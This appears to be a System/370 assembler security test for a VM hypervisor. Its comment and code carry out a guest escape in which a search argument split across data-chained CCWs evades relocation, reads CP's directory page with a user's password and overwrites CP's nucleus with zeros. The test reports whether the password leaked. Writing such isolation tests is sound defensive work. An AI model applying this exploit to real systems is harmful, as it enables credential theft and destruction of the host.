***********************************************************************
*  SPLITSRCH: a SEARCH ID argument split across data-chained CCWs,    *
*  searching where the access arm was left.                           *
*                                                                     *
*  The attack.  Nothing moves the arm first: it is where the last     *
*  channel program left it - after the users' LOGONs, on real         *
*  cylinder 0, where IPL CMS read the CMS nucleus.  The search        *
*  argument CC HH R (5 bytes) comes from two CCWs joined by data      *
*  chaining:                                                          *
*     SEARCH ID EQUAL, multi-track    1 byte from IDPART1, chain data *
*     X'29'                           4 bytes from IDPART2            *
*  The channel ignores the second command byte.  A CP that relocates  *
*  the cylinder in the SEARCH CCW's own 5-byte argument sends only    *
*  the first byte of its copy (X'00' for the guest's small cylinder   *
*  numbers); the other four are the guest's own: the low byte of the  *
*  cylinder, the head, the record.  (X'29', a key search code, also   *
*  makes such a CP copy the CCW after the TIC, since a search before  *
*  it may skip the TIC.)  The argument names CP's first page on       *
*  cylinder 0 (head CPHEAD, which the test sets: the layout of the    *
*  volume is no secret), so the search finds it: first ALICE reads    *
*  it (the directory, BOB's password), then overwrites it with zeros  *
*  - the CP the next IPL would load.                                  *
*                                                                     *
*  A correct CP relocates the argument the channel actually uses, or  *
*  refuses split arguments; and it does not let a channel program     *
*  search a cylinder that is not the guest's (see NOSEEK): nothing is *
*  found, nothing written.                                            *
*                                                                     *
*  X'600D': nothing read; X'BAD1': the password was read.             *
***********************************************************************
         COPY  GUEST
SPLITSR  START X'8000'
         BALR  R12,0
         USING *,R12
         MVC   IDPART2+1(2),CPHEAD     HH
         LA    R1,READ             read CP's first page
         BAL   R14,DOIO
         LA    R1,WRITE            and overwrite it
         BAL   R14,DOIO
         LA    R3,MARKER
         L     R4,=A(BUF1)
         L     R5,=F'4096'
         BAL   R14,FIND
         BE    LEAKED
         LPSW  GOOD
LEAKED   LPSW  BAD1
READ     CCW   X'B1',IDPART1,X'80',1       SEARCH ID EQUAL (MT): 1 byte
         CCW   X'29',IDPART2,X'40',4       ... and 4 more (chain data)
         CCW   X'08',READ,0,1              TIC back to the search
         CCW   X'06',BUF1,X'20',4096       READ DATA
WRITE    CCW   X'31',IDPART1,X'80',1       SEARCH ID EQUAL, this track
         CCW   X'29',IDPART2,X'40',4
         CCW   X'08',WRITE,0,1
         CCW   X'05',BUF3,X'20',4096       WRITE DATA: zeros
IDPART1  DC    XL5'00'                     (CP copies five bytes here)
IDPART2  DC    X'00000001'                 CC low byte, HH, R
CPHEAD   DC    H'0'                        set by the test
MARKER   DC    C'SWORDFSH'                 BOB's password
         COPY  DOIO
         END
